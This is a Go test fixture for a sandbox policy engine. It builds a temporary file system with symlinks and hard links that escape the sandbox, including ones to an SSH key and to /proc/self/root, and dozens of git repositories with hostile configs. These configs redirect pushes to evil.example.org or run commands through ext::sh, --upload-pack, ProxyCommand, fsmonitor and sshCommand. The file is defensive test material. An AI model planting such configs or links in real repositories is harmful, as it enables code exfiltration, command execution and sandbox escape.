package policy

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// world is a file system with files that attacks use.
type world struct {
	t                                  testing.TB
	root, home, iron, sandbox, outside string
}

func newWorld(t testing.TB) *world {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := &world{
		t: t, root: root, home: root + "/home", iron: root + "/iron",
		sandbox: root + "/iron/sessions/s1/sandbox", outside: root + "/outside",
	}
	w.files()
	w.links()
	w.repositories()
	return w
}

func (w *world) files() {
	for name, content := range map[string]string{
		"home/.ssh/id_rsa":                     "key",
		"home/notes.txt":                       "notes",
		"home/Downloads/got.zip":               "zip",
		"home/Documents/report.txt":            "report",
		"iron/config.json":                     "{}",
		"iron/demo/outside/notes.txt":          "notes",
		"iron/sessions/s2/sandbox/other.txt":   "other",
		"outside/secret.txt":                   "secret",
		"outside/dir/file.txt":                 "file",
		"iron/sessions/s1/sandbox/a.txt":       "a",
		"iron/sessions/s1/sandbox/.env":        "TOKEN=x",
		"iron/sessions/s1/sandbox/src/main.go": "package main",
		"iron/sessions/s1/sandbox/$HOME/x":     "x",
	} {
		w.write(name, content)
	}
}

func (w *world) write(name, content string) {
	w.t.Helper()
	full := filepath.Join(w.root, name)
	w.must(os.MkdirAll(filepath.Dir(full), 0o700))
	w.must(os.WriteFile(full, []byte(content), 0o600))
}

func (w *world) must(err error) {
	w.t.Helper()
	if err != nil {
		w.t.Fatal(err)
	}
}

func (w *world) links() {
	in := func(name string) string { return w.sandbox + "/" + name }
	for name, target := range map[string]string{
		"link-in":           "a.txt",
		"link-src":          "src",
		"link-out":          w.outside,
		"link-rel":          "../../../../outside",
		"link-secret":       w.outside + "/secret.txt",
		"link-config":       w.iron + "/config.json",
		"link-home":         w.home,
		"link-root":         "/",
		"dangling":          w.outside + "/new.txt",
		"dangling-dir":      w.outside + "/newdir",
		"dangling-iron":     w.iron + "/new.json",
		"dangling-in":       "not-yet.txt",
		"chain":             "chain2",
		"chain2":            "link-out",
		"loop":              "loop2",
		"loop2":             "loop",
		"proc-root":         "/proc/self/root",
		"proc-cwd":          "/proc/self/cwd",
		"dev-null":          "/dev/null",
		"to-link-then-up":   "link-out/..",
		"link-to-workspace": "/workspace",
	} {
		w.must(os.Symlink(target, in(name)))
	}
	for i := range 45 {
		w.must(os.Symlink("many"+string(rune('A'+i)), in("many"+string(rune('A'+i-1)))))
	}
	w.must(os.Link(w.iron+"/config.json", in("hard-config")))
	w.must(os.Link(w.home+"/.ssh/id_rsa", in("hard-key")))
	w.must(os.Link(in("src/main.go"), in("hard-own")))
	w.must(syscall.Mkfifo(in("fifo"), 0o600))
}

// repository makes the files of a git repository without running git.
func (w *world) repository(dir, config string, extra map[string]string) {
	git := dir + "/.git/"
	w.write(git+"HEAD", "ref: refs/heads/main\n")
	w.write(git+"objects/info/exclude", "")
	w.write(git+"refs/heads/main", "0123456789012345678901234567890123456789\n")
	w.write(git+"hooks/pre-commit.sample", "#!/bin/sh\n")
	w.write(git+"config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"+config)
	for name, content := range extra {
		w.write(dir+"/"+name, content)
	}
}

const githubRemote = "[remote \"origin\"]\n\turl = https://github.com/acme/widget.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"

func (w *world) repositories() {
	box := "iron/sessions/s1/sandbox/"
	evil := "https://evil.example.org/x.git"
	w.repository(box+"repo", githubRemote, map[string]string{"main.go": "package main", "sub/file.txt": "x"})
	for name, config := range map[string]string{
		"pushurl":        "[remote \"origin\"]\n\turl = https://github.com/acme/widget.git\n\tpushurl = " + evil + "\n",
		"two-urls":       "[remote \"origin\"]\n\turl = https://github.com/acme/widget.git\n\turl = " + evil + "\n",
		"insteadof":      githubRemote + "[url \"https://evil.example.org/\"]\n\tinsteadOf = https://github.com/\n",
		"pushinsteadof":  githubRemote + "[url \"https://evil.example.org/\"]\n\tpushInsteadOf = https://github.com/\n",
		"pushremote":     githubRemote + "[remote \"evil\"]\n\turl = " + evil + "\n[branch \"main\"]\n\tpushRemote = evil\n",
		"pushdefault":    githubRemote + "[remote]\n\tpushDefault = evil\n[remote \"evil\"]\n\turl = " + evil + "\n",
		"include":        githubRemote + "[include]\n\tpath = ../evil.config\n",
		"includeif":      githubRemote + "[includeIf \"gitdir:/\"]\n\tpath = ../evil.config\n",
		"ext":            "[remote \"origin\"]\n\turl = ext::sh -c evil\n",
		"ext2":           "[remote \"origin\"]\n\turl = \"ext::sh\"\n",
		"file":           "[remote \"origin\"]\n\turl = file://" + w.outside + "\n",
		"local":          "[remote \"origin\"]\n\turl = " + w.outside + "\n",
		"optionurl":      "[remote \"origin\"]\n\turl = --upload-pack=evil\n",
		"sshoption":      "[remote \"origin\"]\n\turl = ssh://-oProxyCommand=evil/x\n",
		"vcs":            githubRemote + "[remote \"origin\"]\n\tvcs = ext\n",
		"receivepack":    githubRemote + "[remote \"origin\"]\n\treceivepack = evil\n",
		"fsmonitor":      githubRemote + "[core]\n\tfsmonitor = ./evil.sh\n",
		"hookspath":      githubRemote + "[core]\n\thooksPath = evil\n",
		"sshcommand":     githubRemote + "[core]\n\tsshCommand = evil\n",
		"filter":         githubRemote + "[filter \"x\"]\n\tclean = evil\n",
		"partialclone":   githubRemote + "[extensions]\n\tpartialClone = origin\n",
		"worktreeconfig": githubRemote + "[core]\n\tworktree = " + w.outside + "\n",
		"broken":         "[remote \"origin\n",
		"submodule":      githubRemote + "[submodule \"x\"]\n\turl = ext::sh\n",
		"branchurl":      "[branch \"main\"]\n\tremote = https://evil.example.org/x\n",
		"branchdot":      "[branch \"main\"]\n\tremote = .\n",
		"urlname":        githubRemote + "[remote \"https://github.com/acme/widget\"]\n\turl = " + evil + "\n",
		"mirror":         githubRemote + "[remote \"origin\"]\n\tmirror = true\n",
		"forced":         githubRemote + "[remote \"origin\"]\n\tpush = +refs/heads/*\n",
		"mirror2":        githubRemote + "[remote \"origin\"]\n\tmirror = 2\n",
		"followtags":     githubRemote + "[push]\n\tfollowTags\n",
		"upstream":       "[remote \"origin\"]\n\turl = https://github.com/acme/widget.git\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/production\n[push]\n\tdefault = upstream\n",
		"pushall":        githubRemote + "[remote \"origin\"]\n\tpush = refs/heads/*\n",
		"pushelsewhere":  githubRemote + "[remote \"origin\"]\n\tpush = main:production\n",
		"review":         githubRemote + "[remote \"origin\"]\n\tpush = HEAD:refs/for/main\n",
		"numbered":       githubRemote + "[extensions]\n\tworktreeConfig = 0x2\n",
		"unclear":        githubRemote + "[extensions]\n\tworktreeConfig = maybe\n",
		"matching":       githubRemote + "[push]\n\tdefault = matching\n",
		"group":          githubRemote + "[remote \"evil\"]\n\turl = " + evil + "\n[remotes]\n\tboth = origin evil\n",
		"bundle":         githubRemote + "[fetch]\n\tbundleURI = " + evil + "\n",
		"ownca":          githubRemote + "[http]\n\tsslCAInfo = evil.pem\n",
		"caps":           "[REMOTE \"origin\"]\n\tURL = https://github.com/acme/widget.git\n\tPushURL = " + evil + "\n",
	} {
		w.repository(box+"g/"+name, config, nil)
	}
	w.write(box+"g/numbered/.git/config.worktree", "[remote \"origin\"]\n\tpushurl = "+evil+"\n")
	w.repository(box+"g/fsmonitor/in", githubRemote, nil) // git does not accept it as a repository and uses the one above
	w.write(box+"g/fsmonitor/in/.git/HEAD", "main\n")
	w.repository(box+"g/hooks", githubRemote, nil)
	w.repository(box+"g/env", githubRemote, map[string]string{".env": "TOKEN=x", "sub/a.txt": "a"})
	hook := w.sandbox + "/g/hooks/.git/hooks/pre-push"
	w.must(os.WriteFile(hook, []byte("#!/bin/sh\n"), 0o700))
	w.repository("outside/repo", githubRemote, nil)
	w.write(box+"g/gitfile/.git", "gitdir: "+w.outside+"/repo/.git\n")
	w.must(os.MkdirAll(w.sandbox+"/g/gitlink", 0o700))
	w.must(os.Symlink(w.outside+"/repo/.git", w.sandbox+"/g/gitlink/.git"))
	w.repository(box+"g/alternates", githubRemote, nil)
	w.write(box+"g/alternates/.git/objects/info/alternates", w.outside+"/repo/.git/objects\n")
	w.repository(box+"g/commondir", githubRemote, nil)
	w.write(box+"g/commondir/.git/commondir", w.outside+"/repo/.git\n")
	w.repository(box+"g/fifoconfig", "", nil)
	fifo := w.sandbox + "/g/fifoconfig/.git/config"
	w.must(os.Remove(fifo))
	w.must(syscall.Mkfifo(fifo, 0o600))
	w.repository(box+"g/modules", githubRemote, nil)
	for _, f := range []string{"HEAD", "objects/x", "refs/x"} {
		w.write(box+"g/modules/.git/modules/lib/"+f, "x")
	}
	w.write(box+"g/modules/.git/modules/lib/config", "[remote \"origin\"]\n\turl = ext::sh\n")
}

// engine judges by the shipped policy with the given changes.
func (w *world) engine(change ...func(*Config)) *Engine {
	w.t.Helper()
	c, a := Default()
	config := Config{
		Policy: c, Annotations: a, Sandbox: w.sandbox, Mount: "/workspace", Home: w.home,
		Protected: []string{w.iron, w.home + "/.ssh", w.sandbox + "/.env", w.sandbox + "/g/env/.env", w.sandbox + "/src/not-there"}, Unprotected: []string{w.iron + "/demo/outside"},
		SystemGit: w.root + "/no-gitconfig",
	}
	for _, f := range change {
		f(&config)
	}
	e, err := New(config)
	if err != nil {
		w.t.Fatal(err)
	}
	return e
}

// expand puts the directories of the world into a text.
func (w *world) expand(s string) string {
	return strings.NewReplacer("{ROOT}", w.root, "{HOME}", w.home, "{IRON}", w.iron, "{BOX}", w.sandbox, "{OUT}", w.outside).Replace(s)
}

// plainAnnotations are the shipped annotations without schemas and with only the sixteen
// basic roles, as a model might write them.
func plainAnnotations(t testing.TB) *Annotations {
	t.Helper()
	var doc struct {
		GeneratedAt string `json:"generatedAt"`
		Servers     map[string]struct {
			InputHash string           `json:"inputHash"`
			Tools     []map[string]any `json:"tools"`
		} `json:"servers"`
	}
	if err := json.Unmarshal(defaultAnnotations, &doc); err != nil {
		t.Fatal(err)
	}
	for _, s := range doc.Servers {
		for _, tool := range s.Tools {
			delete(tool, "inputSchema")
		}
	}
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	text := string(data)
	for _, added := range []Role{RepoPath, GitRef, GitRemoteName, HTTPHeaders, SearchQuery, FreeText} {
		text = strings.ReplaceAll(text, `"`+string(added)+`"`, `"none"`)
	}
	a, err := ParseAnnotations("plain.json", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return a
}
